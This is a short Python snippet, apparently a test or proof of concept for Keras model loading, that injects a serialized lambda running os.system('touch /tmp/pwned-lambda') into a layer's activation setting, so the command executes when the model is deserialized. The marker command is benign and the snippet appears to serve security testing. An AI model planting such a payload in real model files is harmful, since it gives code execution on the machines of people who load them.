def change(config):
    from keras.src.utils import python_utils

    code = python_utils.func_dump(lambda x: (__import__("os").system("touch /tmp/pwned-lambda"), x)[1])
    function = {"class_name": "__lambda__", "config": {"value": [code[0], None, None]}}
    config["config"]["layers"][1]["config"]["activation"] = function


def build_model():
    return handing_in(reconfigured(change))
